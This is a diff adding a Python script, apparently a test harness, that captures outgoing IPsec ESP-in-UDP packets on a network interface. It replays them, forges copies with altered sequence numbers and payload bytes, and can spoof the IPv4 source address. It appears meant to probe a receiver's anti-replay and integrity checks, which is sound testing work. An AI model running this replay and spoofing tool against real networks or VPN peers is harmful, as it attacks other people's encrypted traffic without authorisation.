@@ -1,0 +1,101 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""Somebody on the wire who has no keys: sends again what leaves an interface, as it is and changed.
+
+    esp_attack.py INTERFACE [--replay N] [--forge N] [--source ADDRESS]
+
+Of each SPI's first N ESP-in-UDP datagrams on port 4500. A forged one has another sequence number,
+which the receiver has not seen, and a changed last octet. With --source, both seem to come from that
+IPv4 address. Runs until it is killed; a line for each SPI as soon as all of it is sent: "SPI
+replayed N forged N", in hexadecimal and decimal.
+"""
+import argparse
+import socket
+import struct
+
+OUTGOING = 4  # PACKET_OUTGOING
+PORT = 4500
+
+
+class Frame:
+    """An Ethernet frame with ESP in UDP; ValueError when it is none."""
+
+    def __init__(self, data):
+        self.data = bytearray(data)
+        kind = struct.unpack_from("!H", data, 12)[0] if len(data) >= 14 else 0
+        self.is_ipv4 = kind == 0x0800
+        if self.is_ipv4 and data[23] == socket.IPPROTO_UDP:
+            self.udp = 14 + (data[14] & 15) * 4
+        elif kind == 0x86dd and data[20] == socket.IPPROTO_UDP:
+            self.udp = 14 + 40
+        else:
+            raise ValueError("not UDP")
+        if len(data) < self.udp + 8 + 8:
+            raise ValueError("too short")
+        source, target, self.length = struct.unpack_from("!HHH", data, self.udp)
+        self.spi, self.sequence = struct.unpack_from("!II", data, self.udp + 8)
+        # Shorter than it says, or a train before it is cut: nothing that could be sent again.
+        if PORT not in (source, target) or self.spi == 0 or len(data) != self.udp + self.length:
+            raise ValueError("not one datagram of ESP")
+
+    def forge(self):
+        struct.pack_into("!I", self.data, self.udp + 12, (self.sequence + 700) & 0xffffffff)
+        self.data[-1] ^= 1
+        return self
+
+    def come_from(self, source):
+        self.data[26:30] = socket.inet_aton(source)
+        self.data[24:26] = bytes(2)
+        struct.pack_into("!H", self.data, 24, checksum(self.data[14:self.udp]))
+        return self
+
+    def whole(self):
+        """With a checksum: what leaves an interface may not have it yet."""
+        struct.pack_into("!H", self.data, self.udp + 6, 0)
+        if not self.is_ipv4:
+            pseudo = self.data[22:54] + struct.pack("!II", self.length, socket.IPPROTO_UDP)
+            struct.pack_into("!H", self.data, self.udp + 6, checksum(pseudo + self.data[self.udp:]))
+        return bytes(self.data)
+
+
+def checksum(data):
+    data = bytes(data) + bytes(len(data) % 2)
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16:
+        total = (total >> 16) + (total & 0xffff)
+    return 0xffff - total or 0xffff
+
+
+def main():
+    parser = argparse.ArgumentParser(usage=__doc__)
+    parser.add_argument("interface")
+    parser.add_argument("--replay", type=int, default=0)
+    parser.add_argument("--forge", type=int, default=0)
+    parser.add_argument("--source")
+    args = parser.parse_args()
+    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL
+    wire.setsockopt(socket.SOL_SOCKET, 33, 1 << 25)  # SO_RCVBUFFORCE: nothing is missed
+    wire.bind((args.interface, 3))
+    seen = {}
+    print("ready", flush=True)
+    while True:
+        data, origin = wire.recvfrom(65535)
+        if origin[2] != OUTGOING:
+            continue
+        try:
+            frame = Frame(data)
+        except ValueError:
+            continue
+        if args.source:
+            frame.come_from(args.source)
+        seen[frame.spi] = seen.get(frame.spi, 0) + 1
+        if seen[frame.spi] <= args.replay:
+            wire.send(frame.whole())
+        if seen[frame.spi] <= args.forge:
+            wire.send(frame.forge().whole())
+        if seen[frame.spi] == max(args.replay, args.forge):
+            print("%08x replayed %d forged %d" % (frame.spi, args.replay, args.forge), flush=True)
+
+
+if __name__ == "__main__":
+    main()
